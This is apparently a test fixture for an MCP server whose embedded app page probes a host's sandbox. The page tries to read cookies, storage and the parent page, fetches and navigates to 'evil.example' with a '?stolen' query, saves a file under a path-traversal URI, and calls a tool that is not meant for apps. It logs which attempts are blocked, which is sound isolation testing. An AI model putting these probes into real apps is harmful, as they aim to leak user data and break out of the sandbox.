// An MCP server with an app, as a program of the operator's: «draw» is shown by a page that says what it was told, what
// it may not reach, and calls «refresh», which is for apps alone. «wipe» is for models alone. With every change of theme it
// asks for the whole page, as it does at the press of a button.
import { Server } from '@modelcontextprotocol/sdk/server/index.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import {
  CallToolRequestSchema,
  ListResourcesRequestSchema,
  ListToolsRequestSchema,
  ReadResourceRequestSchema,
} from '@modelcontextprotocol/sdk/types.js';

const URI = 'ui://charts/page';
const inputSchema = { type: 'object', properties: { title: { type: 'string' } } };
const tool = (name, ui) => ({ name, description: `Does ${name}.`, inputSchema, _meta: { ui } });

const page = `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Chart</title></head>
<body>
<h1>A chart</h1>
<dl id="told"></dl>
<button id="refresh">Refresh</button>
<button id="wipe">Wipe</button>
<button id="link">Documentation</button>
<button id="propose">Propose</button>
<button id="save">Save</button>
<button id="tell">Tell</button>
<button id="fill">Fill the page</button>
<button id="leave">Go away</button>
<script>
  const told = document.getElementById('told');
  const say = (name, value) => {
    const [term, text] = [document.createElement('dt'), document.createElement('dd')];
    term.textContent = name;
    text.textContent = value;
    text.id = name;
    document.getElementById(name)?.remove();
    told.append(term, text);
    request.size();
  };
  let next = 0;
  const waiting = new Map();
  const post = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*');
  const request = (method, params) => new Promise((resolve) => {
    next += 1;
    waiting.set(next, resolve);
    post({ id: next, method, params });
  });
  request.size = () => post({ method: 'ui/notifications/size-changed', params: { height: document.documentElement.scrollHeight } });
  const attempt = (name, what) => {
    try {
      say(name, 'reached: ' + what());
    } catch (error) {
      say(name, 'kept out: ' + error.name);
    }
  };
  addEventListener('message', ({ data, source }) => {
    if (source !== parent) return;
    if (data.method === 'ui/notifications/tool-input') say('input', data.params.arguments.title);
    else if (data.method === 'ui/notifications/tool-result') say('result', data.params.content[0].text);
    else if (data.method === 'ui/notifications/host-context-changed') {
      if (data.params.theme) {
        say('theme', data.params.theme);
        fill().then((answer) => say('mode', answer.mode));
      }
    } else if (data.method === 'ui/resource-teardown') post({ id: data.id, result: {} });
    else if (waiting.has(data.id)) {
      waiting.get(data.id)(data.error ? 'refused: ' + data.error.message : data.result);
      waiting.delete(data.id);
    }
  });
  const fill = () => request('ui/request-display-mode', { mode: 'fullscreen' });
  const shown = (answer) => (typeof answer === 'string' ? answer : answer.content?.[0].text ?? JSON.stringify(answer));
  const press = (id, work) => document.getElementById(id).addEventListener('click', async () => say(id + 'ed', shown(await work())));
  press('refresh', () => request('tools/call', { name: 'refresh', arguments: { title: 'again' } }));
  press('wipe', () => request('tools/call', { name: 'wipe', arguments: {} }));
  press('link', () => request('ui/open-link', { url: 'https://docs.example.org/charts' }));
  press('propose', () => request('ui/message', { role: 'user', content: [{ type: 'text', text: 'Draw it again' }] }));
  press('save', () => request('ui/download-file', {
    contents: [{ type: 'resource', resource: { uri: 'file:///out/../chart.html', mimeType: 'text/html', text: '<p>' } }],
  }));
  press('tell', () => request('ui/update-model-context', { content: [{ type: 'text', text: 'Three bars' }] }));
  press('fill', fill);
  document.getElementById('leave').addEventListener('click', () => {
    location.href = 'https://evil.example/?stolen';
  });
  (async () => {
    const greeting = await request('ui/initialize', {
      protocolVersion: '2026-01-26', appInfo: { name: 'chart', version: '1' }, appCapabilities: {},
    });
    say('theme', greeting.hostContext.theme);
    say('tool', greeting.hostContext.toolInfo.tool.name);
    const { variables } = greeting.hostContext.styles;
    say('styles', Object.keys(variables).length);
    for (const [name, value] of Object.entries(variables)) document.documentElement.style.setProperty(name, value);
    document.documentElement.style.setProperty('color-scheme', greeting.hostContext.theme);
    document.body.style.color = 'var(--color-text-primary)';
    say('color', getComputedStyle(document.body).color);
    attempt('cookies', () => document.cookie);
    attempt('storage', () => localStorage.length);
    attempt('page', () => parent.document.title);
    const away = (address) => fetch(address).then(() => 'reached', () => 'kept out');
    say('elsewhere', await away('https://evil.example/'));
    say('parley', await away(new URL('/sign-in', location.href)));
    say('unknown', shown(await request('tools/list', {})));
    post({ method: 'ui/notifications/initialized', params: {} });
  })();
</script>
</body>
</html>`;

const server = new Server({ name: 'charts', version: '1.0.0' }, { capabilities: { tools: {}, resources: {} } });
server.setRequestHandler(ListToolsRequestSchema, () => ({
  tools: [
    tool('draw', { resourceUri: URI }),
    tool('refresh', { visibility: ['app'] }),
    tool('wipe', { visibility: ['model'] }),
  ],
}));
server.setRequestHandler(CallToolRequestSchema, ({ params }) => ({
  content: [{ type: 'text', text: `${params.name} ${params.arguments?.title ?? ''}`.trim() }],
}));
// Pages of apps need not be listed.
server.setRequestHandler(ListResourcesRequestSchema, () => ({ resources: [] }));
server.setRequestHandler(ReadResourceRequestSchema, ({ params }) => ({
  contents: [{ uri: params.uri, mimeType: 'text/html;profile=mcp-app', text: page }],
}));
await server.connect(new StdioServerTransport());
